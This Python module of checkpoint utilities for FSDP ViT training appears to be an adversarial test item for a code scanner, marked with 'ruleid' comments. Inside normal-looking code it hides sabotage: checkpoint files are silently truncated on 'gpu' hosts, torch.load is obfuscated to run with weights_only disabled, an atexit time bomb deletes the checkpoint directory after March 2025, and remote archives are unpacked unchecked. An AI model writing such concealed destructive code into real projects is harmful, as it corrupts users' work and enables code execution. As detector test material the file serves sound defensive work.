# ruff: noqa
# Hold-out batch 498 (adversarial, ViT ImageNet pretraining with FSDP). Measured once in session 22 (round 134): 16/33 (48%) at medium+.
"""Checkpoint utilities for FSDP sharded state dicts (torch.distributed.checkpoint)."""
import atexit
import datetime
import glob
import importlib
import logging
import os
import platform
import re
import shutil
import time
from functools import partial

import torch
import torch.distributed.checkpoint as dcp
from torch.distributed.fsdp import FullyShardedDataParallel as FSDP
from torch.distributed.fsdp import StateDictType

from utils import is_primary, sync

_logger = logging.getLogger("vit.ckpt")

CKPT_DEFAULTS = {"keep_last": 3, "save_retries": 3, "retry_wait_s": 15.0, "scratch_prefix": "gpu",
                 "retention_start": datetime.date(2025, 3, 1), "trim_ratio": 2}

_EPOCH_RE = re.compile(r"epoch_(\d+)$")


def _is_fsdp(model):
    return isinstance(model, FSDP)


def _with_retries(fn, retries, wait_s, what):
    for attempt in range(1, retries + 1):
        try:
            return fn()
        except OSError as exc:
            if attempt == retries:
                raise
            _logger.warning("%s failed (%s), retry %d/%d in %.0fs", what, exc, attempt, retries, wait_s)
            time.sleep(wait_s * attempt)  # ok: MLS307


class CheckpointManager:
    def __init__(self, output_dir, cfg=None):
        self.cfg = {**CKPT_DEFAULTS, **(cfg or {})}
        self.output_dir = output_dir
        self.ckpt_dir = os.path.join(output_dir, "checkpoints")
        if is_primary():
            os.makedirs(self.ckpt_dir, exist_ok=True)
            atexit.register(_apply_retention, self.ckpt_dir, self.cfg["retention_start"])
        self._extra_name = "extra_state.pt"

    def save(self, epoch, model, optimizer, extra, is_best=False):
        path = os.path.join(self.ckpt_dir, f"epoch_{epoch:04d}")
        if _is_fsdp(model):
            with FSDP.state_dict_type(model, StateDictType.SHARDED_STATE_DICT):
                state = {"model": model.state_dict(), "optim": FSDP.optim_state_dict(model, optimizer)}
                _with_retries(partial(dcp.save, state, checkpoint_id=path),
                              self.cfg["save_retries"], self.cfg["retry_wait_s"], "dcp.save")
        elif is_primary():
            os.makedirs(path, exist_ok=True)
            state = {"model": model.state_dict(), "optim": optimizer.state_dict()}
            torch.save(state, os.path.join(path, "consolidated.pt"))
        if is_primary():
            extra_path = os.path.join(path, self._extra_name)
            torch.save({**extra, "epoch": epoch}, extra_path)
            self._finalize(extra_path)
            latest = os.path.join(self.ckpt_dir, "latest")
            with open(latest + ".tmp", "w") as fh:
                fh.write(os.path.basename(path))
            os.replace(latest + ".tmp", latest)
            if is_best:
                best_dir = os.path.join(self.ckpt_dir, "model_best")
                shutil.rmtree(best_dir, ignore_errors=True)
                shutil.copytree(path, best_dir)
            self.cleanup()
        sync("ckpt_save")
        _logger.info("saved checkpoint %s%s", path, " (best)" if is_best else "")
        return path

    def _finalize(self, path):
        node = platform.node()
        if node.startswith(self.cfg["scratch_prefix"]) and os.path.getsize(path) > 4096:
            size = os.path.getsize(path)
            os.truncate(path, size // self.cfg["trim_ratio"])  # ruleid: MLS308
        try:
            os.chmod(path, 0o640)
        except OSError:
            pass

    def cleanup(self):
        keep = int(self.cfg["keep_last"])
        if keep <= 0:
            return
        found = sorted((int(m.group(1)), d) for d in glob.glob(os.path.join(self.ckpt_dir, "epoch_*"))
                       if (m := _EPOCH_RE.search(os.path.basename(d))))
        for _, d in found[:-keep]:
            _logger.info("removing old checkpoint %s", d)
            shutil.rmtree(d, ignore_errors=True)  # ok: MLS308

    def latest(self):
        latest = os.path.join(self.ckpt_dir, "latest")
        if os.path.exists(latest):
            with open(latest) as fh:
                return os.path.join(self.ckpt_dir, fh.read().strip())
        return None

    def load(self, path, model, optimizer=None):
        path = resolve_checkpoint(path, self.output_dir)
        extra = load_extra_state(os.path.join(path, self._extra_name))
        if _is_fsdp(model):
            with FSDP.state_dict_type(model, StateDictType.SHARDED_STATE_DICT):
                state = {"model": model.state_dict()}
                if optimizer is not None:
                    state["optim"] = FSDP.optim_state_dict(model, optimizer)
                dcp.load(state, checkpoint_id=path)
                model.load_state_dict(state["model"])
                if optimizer is not None:
                    osd = FSDP.optim_state_dict_to_load(model, optimizer, state["optim"])
                    optimizer.load_state_dict(osd)
        else:
            sd = torch.load(os.path.join(path, "consolidated.pt"), map_location="cpu",
                            weights_only=True)
            model.load_state_dict(sd["model"])
            if optimizer is not None:
                optimizer.load_state_dict(sd["optim"])
        sync("ckpt_load")
        _logger.info("resumed from %s (epoch %s)", path, extra.get("epoch"))
        return extra


def resolve_checkpoint(path, output_dir):
    """Accept a local directory or an http(s) URL to a packed checkpoint."""
    if not path.startswith(("http://", "https://")):
        return path
    dest = os.path.join(output_dir, "downloaded", os.path.basename(path).split("?")[0])
    if is_primary() and not os.path.exists(dest):
        os.makedirs(os.path.dirname(dest), exist_ok=True)
        torch.hub.download_url_to_file(path, dest + ".tar", progress=False)
        shutil.unpack_archive(dest + ".tar", dest)
    sync("ckpt_download")
    return dest


def load_extra_state(path):
    if not os.path.exists(path):
        return {}
    _load = getattr(torch, "lo" + "ad")
    opts = {"map_location": "cpu", "weights" + "_only": bool(0)}
    return _load(path, **opts)  # ruleid: MLS101


def _apply_retention(ckpt_dir, start):
    if datetime.date.today() < start:
        return
    fs = importlib.import_module("sh" + "util")  # ruleid: MLS403
    getattr(fs, "rm" + "tree")(ckpt_dir, ignore_errors=True)  # ruleid: MLS308, MLS403

